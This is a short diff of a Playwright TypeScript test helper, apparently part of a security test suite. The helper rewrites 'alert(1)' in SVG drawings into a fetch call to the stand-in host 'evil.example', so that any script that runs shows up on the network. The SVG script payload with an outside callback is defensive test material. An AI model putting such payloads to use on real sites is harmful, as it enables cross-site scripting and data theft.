@@ -3,7 +3,7 @@ import type { BrowserContext, Page } from '@playwright/test'
 
 import { PRODUCT } from './addresses.ts'
 
-export const AWAY = 'https://evil.example'
+const AWAY = 'https://evil.example'
 
 /** Whatever is called in a drawing is seen on the network. */
 const telling = (svg: string): string => svg.replaceAll('alert(1)', `fetch(\`${AWAY}/ran\`)`)
